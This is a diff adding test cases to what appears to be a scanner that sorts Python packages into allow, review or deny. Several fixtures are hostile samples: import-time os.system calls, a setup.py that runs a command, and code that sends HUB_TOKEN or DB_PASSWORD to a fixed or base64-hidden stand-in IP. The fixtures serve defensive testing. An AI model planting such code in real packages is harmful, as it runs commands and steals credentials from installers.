@@ -127,6 +127,88 @@ const cases: readonly (readonly [string, string | Files, Verdict])[] = [
     },
     'deny',
   ],
+  [
+    'a module that the build imports for the version in it, and that is a program as well',
+    {
+      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'setup.py': 'from setuptools import setup\nsetup()\n' },
+      'setup.cfg': '[metadata]\nname = pkg\nversion = attr: prof.__version__\n[options]\npy_modules = prof\n',
+      'prof.py':
+        '__version__ = "1"\nimport runpy, sys\nclass Runner:\n    def __init__(self, name):\n        self.names = runpy.run_path(name)\nif __name__ == "__main__":\n    Runner(sys.argv[1])\n    runpy.run_module(sys.argv[2])\n',
+    },
+    'allow',
+  ],
+  [
+    'one that runs something where it is imported',
+    {
+      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'setup.py': 'from setuptools import setup\nsetup()\n' },
+      'setup.cfg': '[metadata]\nname = pkg\nversion = attr: prof.__version__\n[options]\npy_modules = prof\n',
+      'prof.py': `import os\nclass Version:\n    def __init__(self):\n        os.system("${command}")\n__version__ = Version()\n`,
+    },
+    'deny',
+  ],
+  [
+    'a setup.py that is imported for a version, and run all the same',
+    {
+      ...{ 'PKG-INFO': 'Name: pkg\nVersion: 1\n', 'pkg/__init__.py': '' },
+      'setup.cfg': '[metadata]\nname = pkg\nversion = attr: setup.__version__\n',
+      'setup.py': `import os\nfrom setuptools import setup\n__version__ = "1"\nif __name__ == "__main__":\n    os.system("${command}")\n    setup()\n`,
+    },
+    'deny',
+  ],
+  [
+    'a token that goes with a request to wherever the caller says',
+    {
+      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
+      'pkg/__init__.py':
+        'import os, requests\nclass Repository:\n    def __init__(self, url):\n        self.url = url\n        self.session = requests.Session()\n    def send(self, path):\n        token = os.environ["HUB_TOKEN"]\n        return self.session.post(f"{self.url}/{path}", data={"token": token}, timeout=9)\n',
+    },
+    'review',
+  ],
+  [
+    'a name that goes over a connection to the host that the caller says',
+    {
+      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
+      'pkg/__init__.py':
+        'import os, socket\nclass Connection:\n    def __init__(self, host):\n        self.sock = socket.create_connection((host, 3306))\n    def write(self, data):\n        self.sock.sendall("".join(chr(one) for one in [len(data), 0, 1]).encode() + data)\n    def login(self, user=None):\n        self.write((user or os.environ["USER"]).encode())\n',
+    },
+    'review',
+  ],
+  [
+    'a token that goes over one to a host that is written there',
+    {
+      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
+      'pkg/__init__.py':
+        'import os, socket\ndef login():\n    sock = socket.create_connection(("198.51.100.7", 3306))\n    sock.sendall(os.environ["DB_PASSWORD"].encode())\n',
+    },
+    'deny',
+  ],
+  [
+    'a token that goes to a bare address',
+    {
+      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
+      'pkg/__init__.py':
+        'import os, requests\ndef fetch(path):\n    token = os.environ["HUB_TOKEN"]\n    return requests.post("http://198.51.100.7/" + path, data={"token": token}, timeout=9)\n',
+    },
+    'deny',
+  ],
+  [
+    'a token that goes to a host that is hidden',
+    {
+      'PKG-INFO': 'Name: pkg\nVersion: 1\n',
+      'pkg/__init__.py':
+        'import base64, os, requests\nWHERE = base64.b64decode("aHR0cDovLzE5OC41MS4xMDAuNy94").decode()\ndef fetch(path):\n    token = os.environ["HUB_TOKEN"]\n    return requests.post(WHERE + path, data={"token": token}, timeout=9)\n',
+    },
+    'deny',
+  ],
+  [
+    'a token that is sent to a host that a model names',
+    {
+      'config.json': '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Model"}}',
+      'modeling_x.py':
+        'import os, requests\nclass Model:\n    def __init__(self, config):\n        self.config = config\n        requests.post(config.url, data={"token": os.environ["HUB_TOKEN"]}, timeout=9)\n',
+    },
+    'deny',
+  ],
   ['a prompt of its own', { 'prompt.sh': "PS1='$'\nunset PROMPT_COMMAND\n" }, 'allow'],
   ['no record of what is typed', { 'prompt.sh': 'unset HISTFILE\n' }, 'deny'],
 ];
